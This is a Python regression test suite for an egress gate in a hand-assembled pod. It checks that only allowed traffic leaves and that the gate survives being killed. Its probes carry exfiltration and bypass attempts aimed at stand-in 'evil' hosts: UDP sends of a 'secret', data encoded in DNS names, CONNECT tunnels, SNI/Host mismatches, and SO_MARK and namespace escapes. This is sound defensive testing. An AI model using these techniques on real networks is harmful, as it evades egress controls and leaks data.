#!/usr/bin/env python3
# SPDX-License-Identifier: ISC

"""A pod by hand: fence, gate and workspace as Kubernetes would put them
together, without it.  What is allowed passes, nothing else leaves, whatever
the workspace tries and whoever dies."""

import hashlib
import json
import os
import pathlib
import signal
import socket
import sys
import textwrap
import time
from concurrent.futures import ThreadPoolExecutor

REGRESS = pathlib.Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REGRESS / "lib"))
sys.path.insert(0, str(REGRESS / "gate"))
from case import Cases, Skip  # noqa: E402
from daemon import SANITIZED, until, verify  # noqa: E402
from gate import EVIL, FINAL, GOOD  # noqa: E402
from outside import (DNS_ADDRESS, EVIL_ADDRESS, EVIL_ADDRESS6,  # noqa: E402
                     GOOD_ADDRESS, METADATA, OURS)
from podlib import (DNS, MARK, PYTHON, TCP, UIDS, Pod, World,  # noqa: E402
                    fence, static)
from procs import children  # noqa: E402

cases = Cases()
WHO = ("root", "user")
GRACE_S = 5
PSS_MAX = 30 * 1024     # KiB
BANNER = "SSH-2.0-evil"

try:
    world = World()
    fence()
except Skip as why:
    print(f"skip all: {why}")
    sys.exit(0)

PRELUDE = """
import errno, json, os, socket, ssl, subprocess, sys
from concurrent.futures import ThreadPoolExecutor
SO_MARK = 36

def name(error):
    return errno.errorcode.get(error.errno, str(error))

def attempt(function, *args):
    try:
        return function(*args)
    except OSError as e:
        return name(e)

def tcp(host, port, data=b"GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n"):
    "What came back, or how it ended."
    try:
        with socket.create_connection((host, port), 10) as sock:
            sock.settimeout(10)
            sock.sendall(data)
            return sock.recv(4096).decode("latin-1")
    except OSError as e:
        return name(e)

def udp(host, port, data=b"secret", source=None, mark=None):
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(1)
        try:
            if source:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                sock.bind(("", source))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sock.sendto(data, (host, port))
            return sock.recv(4096).hex()
        except OSError as e:
            return name(e)

def together(calls):
    with ThreadPoolExecutor(16) as pool:
        return list(pool.map(lambda c: c[0](*c[1:]), calls))

def mark(kind):
    with socket.socket(socket.AF_INET, kind) as sock:
        sock.setsockopt(socket.SOL_SOCKET, SO_MARK, %d)
        return "marked"

def say(value):
    print(json.dumps(value), flush=True)
""" % MARK


def probe(pod, who, code):
    """What a program in the workspace says, as one value."""
    done = pod.workspace(who, PYTHON, "-c",
                         PRELUDE + textwrap.dedent(code))
    assert done.returncode == 0, done.stdout
    return json.loads(done.stdout.splitlines()[-1])


def curl(pod, who, url, *args):
    return pod.workspace(who, "curl", "-s", "-m", "20", "-o", "/dev/null",
                         "-w", "%{http_code}", *args, url).stdout


@cases.each(WHO)
def allowed_and_denied(who):
    """By name, over HTTPS and HTTP, with nothing set up but the bundle that is
    mounted over the system's; the rest is denied, and all is on record."""
    world.forget()
    with Pod(world) as pod:
        said = [curl(pod, who, f"https://{GOOD}/secure?x=1"),
                curl(pod, who, f"http://{GOOD}/plain"),
                curl(pod, who, f"https://{EVIL}/"),
                curl(pod, who, f"http://{EVIL}/")]
        assert said == ["200", "200", "403", "403"], said
        closed, = pod.has("request_closed", host=GOOD, port=443)
        assert closed["request"]["path"] == "/secure?x=1", closed
        pod.has("request_denied", host=EVIL, port=443)
        world.no_evil()


@cases.each(WHO)
def other_protocols(who):
    """QUIC, ICMP and what else there is never leave, and are on record."""
    world.forget()
    with Pod(world) as pod:
        said = probe(pod, who, f"""
            def other(kind, protocol):
                with socket.socket(socket.AF_INET, kind, protocol) as sock:
                    sock.settimeout(1)
                    sock.sendto(b"\\x08\\0\\0\\0\\0\\1\\0\\1", (
                        "{EVIL_ADDRESS}", 7))
                    return sock.recv(64).hex()
            say([udp("{EVIL_ADDRESS}", 443), udp("{EVIL_ADDRESS6}", 443),
                 udp("{METADATA}", 80), udp("{EVIL_ADDRESS}", 123),
                 udp("255.255.255.255", 67), udp("224.0.0.251", 5353),
                 attempt(other, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
                 attempt(other, socket.SOCK_DGRAM, 136)])
        """)
        assert all(s.isupper() or s == "timed out" for s in said), said
        pod.has("connection_refused", protocol="udp", host=EVIL_ADDRESS,
                port=443)
        pod.has("connection_refused", protocol="udp", host=EVIL_ADDRESS6,
                port=443)
        world.no_evil()


@cases.each(WHO)
def other_ports(who):
    """Every TCP port arrives at the gate, by address and by name, in both
    families, and none goes on."""
    world.forget()
    with Pod(world) as pod:
        said = probe(pod, who, f"""
            say(together([(tcp, h, p) for h in (
                "{EVIL_ADDRESS}", "{EVIL_ADDRESS6}", "{METADATA}", "{EVIL}")
                for p in (22, 53, 80, 443, 853, 5432, 8443)]))
        """)
        assert not any(BANNER in s or " 200 " in s for s in said), said
        world.no_evil()


@cases.each(WHO)
def gates_own_doors(who):
    """The gate's ports, its control socket, its processes and its files."""
    first = int(UIDS.split()[0])
    world.forget()
    with Pod(world) as pod:
        said = probe(pod, who, f"""
            say([[tcp(h, p) for h in ("127.0.0.1", "::1", "127.0.0.2")
                  for p in ({TCP}, {DNS})],
                 [udp(h, {DNS}) for h in ("127.0.0.1", "::1")],
                 os.path.exists("{pod.socket}"),
                 [p for p in os.listdir("/proc") if p.isdigit()
                  and b"egressd" in open(f"/proc/{{p}}/cmdline", "rb").read()
                  and "-c" not in open(f"/proc/{{p}}/cmdline").read()],
                 [n for n in open("/proc/net/unix").read().split()
                  if n.startswith("@") and "egress" in n]])
        """)
        assert all(s.isupper() for s in said[0] + said[1]), said
        assert said[2:] == [False, [], []], said
        if who == "root":
            said = probe(pod, who, f"""
                said = []
                for uid in range({first}, {first} + 9):
                    pid = os.fork()
                    if pid == 0:
                        os.setgid(uid)
                        os.setuid(uid)
                        ok = "{BANNER}" in tcp("{EVIL_ADDRESS}", 22) or \\
                            not udp("{EVIL_ADDRESS}", 443).isupper()
                        os._exit(1 if ok else 0)
                    said.append(os.waitstatus_to_exitcode(
                        os.waitpid(pid, 0)[1]))
                say(said)
            """)
            assert said == [0] * 9, said
        world.no_evil()


@cases.each(WHO)
def gates_ports_are_taken(who):
    """Nobody binds them beside the gate, in whatever way."""
    with Pod(world) as pod:
        said = probe(pod, who, f"""
            def bind(kind, port, address, option):
                family = socket.AF_INET6 if ":" in address else socket.AF_INET
                with socket.socket(family, kind) as sock:
                    if option:
                        sock.setsockopt(socket.SOL_SOCKET, option, 1)
                    sock.bind((address, port))
                    if kind == socket.SOCK_STREAM:
                        sock.listen()
                    return f"bound {{address}} {{port}} {{option}}"
            say([attempt(bind, kind, port, address, option)
                 for address in ("127.0.0.1", "0.0.0.0", "::1", "::")
                 for kind, port in ((socket.SOCK_STREAM, {TCP}),
                                    (socket.SOCK_STREAM, {DNS}),
                                    (socket.SOCK_DGRAM, {DNS}))
                 for option in (0, socket.SO_REUSEADDR, socket.SO_REUSEPORT)])
        """)
        assert set(said) == {"EADDRINUSE"}, said


@cases.each(WHO)
def marks_and_raw_sockets(who):
    """The mark is not to be had, also not in namespaces of one's own; nor is
    a socket that the rules do not see."""
    world.forget()
    with Pod(world) as pod:
        said = probe(pod, who, """
            def raw(family, kind, protocol):
                with socket.socket(family, kind, protocol):
                    return "open"
            inner = '''
            import os, socket
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            try:
                s.setsockopt(socket.SOL_SOCKET, 36, %d)
                print("marked")
            except OSError as e:
                print("refused", e.errno)
            '''
            import textwrap
            done = subprocess.run(
                ["unshare", "-Ur", sys.executable, "-c",
                 textwrap.dedent(inner)], capture_output=True, text=True)
            say([attempt(mark, socket.SOCK_STREAM),
                 attempt(mark, socket.SOCK_DGRAM),
                 attempt(raw, socket.AF_INET, socket.SOCK_RAW, 255),
                 attempt(raw, socket.AF_INET6, socket.SOCK_RAW, 58),
                 attempt(raw, socket.AF_PACKET, socket.SOCK_RAW, 3),
                 "marked" in done.stdout])
        """ % MARK)
        assert said == ["EPERM"] * 5 + [False], said
        world.no_evil()


@cases.each(WHO)
def wrong_names(who):
    """An allowed name for another address, two names in one request, and what
    a port is not for: never passed on."""
    before = len(world.tls.got()), len(world.clear.got())
    world.forget()
    with Pod(world) as pod:
        said = probe(pod, who, f"""
            def get(host, target="/"):
                return (f"GET {{target}} HTTP/1.1\\r\\nHost: {{host}}\\r\\n"
                        "\\r\\n").encode()
            def secure(address, sni, data):
                context = ssl.create_default_context()
                context.check_hostname = False
                context.verify_mode = ssl.CERT_NONE
                try:
                    with socket.create_connection((address, 443), 10) as s, \\
                            context.wrap_socket(s, server_hostname=sni) as t:
                        t.sendall(data)
                        return t.recv(4096).decode("latin-1")
                except OSError as e:
                    return name(e)
            tunnel = b"CONNECT {EVIL}:443 HTTP/1.1\\r\\nHost: {EVIL}\\r\\n\\r\\n"
            say(together([
                (tcp, "{EVIL_ADDRESS}", 80, get("{GOOD}")),
                (secure, "{EVIL_ADDRESS}", "{GOOD}", get("{GOOD}")),
                (secure, "{GOOD}", "{GOOD}", get("{EVIL}")),
                (secure, "{GOOD}", "{EVIL}", get("{GOOD}")),
                (secure, "{EVIL}", "{GOOD}", get("{GOOD}")),
                (tcp, "{GOOD}", 80, get("{EVIL}", "http://{EVIL}/")),
                (tcp, "{GOOD}", 80, tunnel), (tcp, "{GOOD}", 443, tunnel),
                (tcp, "{GOOD}", 443, b"SSH-2.0-secret\\r\\n"),
                (tcp, "{GOOD}", 443, get("{GOOD}:443"))]))
        """)
        assert not any(" 200 " in s or BANNER in s for s in said), said
        assert not any(s.startswith("HTTP") and int(s.split()[1]) < 400
                       for s in said), said
        assert (len(world.tls.got()), len(world.clear.got())) == before
        world.no_evil()


@cases.each(WHO)
def questions_leave_nothing(who):
    """A secret in a name, asked of whatever server, is answered here."""
    world.forget()
    with Pod(world) as pod:
        said = probe(pod, who, f"""
            question = (b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret"
                        b"\\4evil\\4test\\0\\0\\x10\\0\\1")
            long = len(question).to_bytes(2, "big") + question
            say(together([(udp, a, 53, question) for a in (
                "{DNS_ADDRESS}", "{EVIL_ADDRESS}", "{EVIL_ADDRESS6}",
                "8.8.8.8")] + [(tcp, a, 53, long) for a in (
                "{DNS_ADDRESS}", "{EVIL_ADDRESS}")]))
        """)
        assert all(s.startswith("1234") for s in said[:4]), said
        assert all(s[2:4] == "\x124" for s in said[4:]), said
        assert not world.dns.questions, world.dns.questions
        world.no_evil()


@cases.each(WHO)
def through_the_gate_to_itself(who):
    """Though every name is allowed: to its ports, its addresses, the metadata
    of a cloud, by name and by number."""
    for name, address in (("loop.test", OURS), ("lo.test", "127.0.0.1"),
                          ("meta.test", METADATA)):
        world.zone[name] = static(address)
    world.forget()
    with Pod(world, 'allow path "/**"') as pod:
        said = probe(pod, who, f"""
            def get(host):
                return f"GET / HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n".encode()
            say(together([(tcp, h, p, get(h if p == 80 else f"{{h}}:{{p}}"))
                          for h in ("loop.test", "lo.test", "meta.test",
                                    "{OURS}", "{METADATA}", "198.18.0.1")
                          for p in (80, {TCP}, {DNS})]))
        """)
        assert not any(" 200 " in s or BANNER in s for s in said), said
        pod.has("request_failed", host="loop.test", port=80)
        world.no_evil()


@cases.case
def rides_no_entry():
    """A name server that the gate has asked is no way out for a workspace
    which sends from the same port."""
    world.forget()
    with Pod(world) as pod:
        assert curl(pod, "root", f"https://{GOOD}/") == "200"
        ports = {int.from_bytes(f[34:36]) for f in world.outside.sent()
                 if f[23] == socket.IPPROTO_UDP}
        assert ports, "no name was asked for"
        asked = len(world.dns.questions)
        said = probe(pod, "root", f"""
            say([udp("{DNS_ADDRESS}", {world.dns.port}, source=p)
                 for p in {sorted(ports)}])
        """)
        assert all(s.isupper() for s in said), said
        assert len(world.dns.questions) == asked
        world.no_evil()


@cases.case
def engine_is_killed():
    """The session goes on with another engine and another CA; the files that
    are mounted one by one show it, as their inodes stay."""
    world.forget()
    with Pod(world) as pod:
        names = ("ca.pem", "bundle.pem", "ca.jks")
        before = [(pod.trust / n).stat() for n in names]
        text = (pod.trust / "ca.pem").read_text()
        assert curl(pod, "user", f"https://{GOOD}/1") == "200"
        engine = pod.find("tlsengine")
        os.kill(engine, signal.SIGKILL)
        until("another engine", lambda: pod.find("tlsengine") not in
              (None, engine))
        until("the probe", lambda: pod.ctl("status", "-q").returncode == 0)
        after = [(pod.trust / n).stat() for n in names]
        assert [s.st_ino for s in before] == [s.st_ino for s in after]
        assert (pod.trust / "ca.pem").read_text() not in ("", text)
        assert (pod.trust / "bundle.pem").read_text().endswith(
            (pod.trust / "ca.pem").read_text())
        assert curl(pod, "user", f"https://{GOOD}/2") == "200"
        # The second start in a row is a late one, and the probe says so.
        engine = pod.find("tlsengine")
        os.kill(engine, signal.SIGKILL)
        until("no engine", lambda: pod.find("tlsengine") != engine)
        until("the probe", lambda: pod.ctl("status", "-q").returncode == 0)
        assert curl(pod, "user", f"https://{GOOD}/3") == "200"
        world.no_evil()


@cases.each(("parent", "policyd", "recorder", "dialer"))
def gate_is_killed(victim):
    """Without the gate nothing leaves; started again it goes on, with the
    chain where it ended."""
    world.forget()
    with Pod(world) as pod:
        assert curl(pod, "user", f"https://{GOOD}/1") == "200"
        os.kill(pod.pid() if victim == "parent" else pod.find(victim),
                signal.SIGKILL)
        pod.wait()
        said = probe(pod, "root", f"""
            say(together([(tcp, h, p) for h in (
                "{GOOD}", "{GOOD_ADDRESS}", "{EVIL_ADDRESS}", "{EVIL_ADDRESS6}")
                for p in (80, 443)] + [(udp, "{EVIL_ADDRESS}", 443),
                (udp, "{DNS_ADDRESS}", {world.dns.port})]))
        """)
        assert not any("HTTP" in s or BANNER in s for s in said), said
        world.no_evil()
        pod.start()
        assert curl(pod, "user", f"https://{GOOD}/2") == "200"
        verify(pod.audit.read_text().split("\n")[:-1])


@cases.case
def a_stop_in_order():
    """Within the time that a pod has, in the middle of requests: the exit
    status is 0 and every request has its final record."""
    half = (f"POST /half HTTP/1.1\\r\\nHost: {GOOD}\\r\\n"
            "Content-Length: 100\\r\\n\\r\\nhalf")
    with Pod(world) as pod, ThreadPoolExecutor() as pool:
        client = pool.submit(probe, pod, "user", f"""
            say(tcp("{GOOD}", 80, b"{half}"))
        """)
        pod.has("request_allowed", host=GOOD)
        began = time.monotonic()
        assert pod.stop() == 0, pod.log()
        took = time.monotonic() - began
        assert " 200 " not in client.result()
        assert SANITIZED or took < GRACE_S, took
        records = verify(pod.audit.read_text().split("\n")[:-1])
        assert [r for r in records if r["kind"] in FINAL], records
        assert [r for r in records if r["kind"] == "session_ended"], records


@cases.case
def a_new_policy():
    """The Secret is swapped beneath the path as it was given; status names the
    hash of what is in force."""
    with Pod(world) as pod:
        text = pod.text(pod.rules).encode()
        status = pod.ask("status")
        assert status["configuration"] == str(pod.link), status
        assert status["configuration_sha256"] == \
            hashlib.sha256(text).hexdigest(), status
        pod.swap(f'deny host "{GOOD}"')
        assert pod.ask("reload")["ok"]
        new = pod.ask("status")["configuration_sha256"]
        assert new == hashlib.sha256(
            pod.text(f'deny host "{GOOD}"').encode()).hexdigest()
        assert curl(pod, "user", f"https://{GOOD}/") == "403"


@cases.case
def memory():
    """All processes of an idle gate together."""
    if SANITIZED:
        raise Skip("sanitizers take more")
    with Pod(world) as pod:
        assert curl(pod, "user", f"https://{GOOD}/") == "200"
        pids = [pod.pid(), *children(pod.pid())]
        total = 0
        for pid in pids:
            text = pathlib.Path(f"/proc/{pid}/smaps_rollup").read_text()
            total += int(text.split("\nPss:")[1].split()[0])
        assert total < PSS_MAX, f"{total} KiB in {len(pids)} processes"


cases.main()
